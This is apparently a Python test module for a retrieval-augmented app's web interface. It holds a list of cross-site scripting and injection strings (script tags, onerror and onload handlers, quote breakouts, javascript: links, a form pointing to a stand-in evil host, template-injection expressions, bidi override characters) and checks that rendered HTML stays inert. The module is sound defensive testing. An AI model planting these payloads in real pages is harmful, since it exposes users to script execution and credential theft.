"""HTML that was rendered: taken apart, and shown to be inert."""

import html
import re
from html.parser import HTMLParser

from hypothesis import example
from hypothesis import strategies as st

from rag.answer.types import Citation
from rag.corpus.article import Article
from rag.search.browse import Statistics
from rag.search.types import Highlight
from rag.ui.markup import escape
from rag.ui.templating import compile_all
from rag.ui.texts import text

compile_all()  # or the first example of a test would take the time that it takes

HOSTILE = (
    "<script>window.hit=1</script>",
    '<img src=x onerror="window.hit=1">',
    "</mark></div><svg/onload=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "<style>*{position:fixed}</style><form action=//evil.example><input name=q>",
    "![x](https://evil.example/x.png) [click](javascript:alert(1)) <https://evil.example>",
    "# heading\n\n* list\n\n| a | b |\n|---|---|\n\n```\ncode\n```\n\n---\n> quote",
    "www.evil.example http://evil.example a@evil.example ~~x~~ **bold** _it_ `code` $x$ \\[y\\]",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} {%raw%} #{x} <%= x %>",
    "\u202egnp.exe \u2066isolate\u2069 \u200fmark \u061c",
    "\x00\x1b[31m\x7f\x85 &lt;script&gt; &#60;b&#62; &amp;",
    "[1] [2][x] [99]",
    "line\r\nline\n\n\n<b>after a blank line</b>",
)
BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
hostile = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=60),
    st.lists(
        st.sampled_from([*HOSTILE, "四川", "<", ">", "&", '"', "\n", "[1]", "*", "`"]), max_size=6
    ).map("".join),
)


class Page(HTMLParser):
    """Tags, attributes and text of a piece of HTML; fails on tags that are not closed in order."""

    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.marked: list[tuple[str, str]] = []
        self._open: list[tuple[str, str, int]] = []
        self.feed(str(markup))
        self.close()
        assert not self._open, f"left open: {self._open}"

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        if tag != "br":
            self._open.append((tag, dict(attrs).get("class", ""), len(self.text)))

    def handle_endtag(self, tag):
        opened, css, start = self._open.pop()
        assert opened == tag
        if tag == "mark":
            self.marked.append((css, self.text[start:]))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError("a comment came through")


OWN_TAGS = set(
    "div p strong span br table thead tbody tr th td q bdi mark a blockquote ul li section h2 h3"
    " details summary article button dl dt dd svg g rect text".split()
)
OWN_ATTRIBUTES = set(
    "class lang href title id tabindex aria-labelledby aria-label aria-hidden aria-pressed"
    " aria-sort scope open target rel role type hidden viewbox transform x y width height rx"
    " data-word data-words data-do data-done data-wish data-rate data-read data-key data-card"
    " data-place data-places data-sort data-pin data-label".split()
)


def assert_inert(markup: str):
    page = Page(markup)
    assert set(page.tags) <= OWN_TAGS
    for name, value in page.attributes:
        assert name in OWN_ATTRIBUTES
        if name == "href":
            assert re.fullmatch(
                r"#(src-[0-9a-f]+-\d+|(lift|free|bind)-[0-9a-f]+-\w+|drop-\w+)?|https?://.*",
                value,
                re.DOTALL,
            )
        if name in ("data-wish", "data-rate", "data-read"):
            assert re.fullmatch(r"#\w+-[0-9a-f]+-\w+", value)
        if name in ("class", "id", "lang", "data-key", "data-do"):
            assert re.fullmatch(r"[\w -]*", value)
    assert not BIDI.search(markup)
    assert "${" not in markup and "{{" not in markup and "`" not in markup
    assert "\n" not in markup, "a blank line would end the HTML and begin Markdown"
    return page


def shown(raw: str) -> str:
    """What a browser shows of ``escape(raw)``."""
    return html.unescape(escape(raw))


ARTICLE = Article(
    "a.md",
    "开头。四川省举行电梯演练，湖北省抽查月饼。结尾。",
    "标题",
    "2011-09-21",
    "某报",
    lang="zh",
)


def find(article_id: str) -> Article | None:
    return ARTICLE if article_id == ARTICLE.id else None


def cite(quote: str, *marks: str) -> Citation:
    start = ARTICLE.text.index(quote)
    spans = tuple(
        (ARTICLE.text.index(mark), ARTICLE.text.index(mark) + len(mark)) for mark in marks
    )
    return Citation(
        "0" * 10,
        "a.md",
        start,
        start + len(quote),
        quote,
        "标题",
        "2011-09-21",
        "某报",
        "",
        "zh",
        3,
        18,
        spans,
        (Highlight(ARTICLE.text.index("电梯"), ARTICLE.text.index("电梯") + 2, "elevator", 0.8),),
    )


def corpus(sources=(), langs=(), dates=("", ""), articles=3) -> Statistics:
    """Figures of a corpus with an article of each source and language."""
    counted = [tuple((name, 1) for name in names) for names in (langs, sources)]
    return Statistics("", "", 0, "", articles, 0, 0, *dates, 0, *counted, (), ())
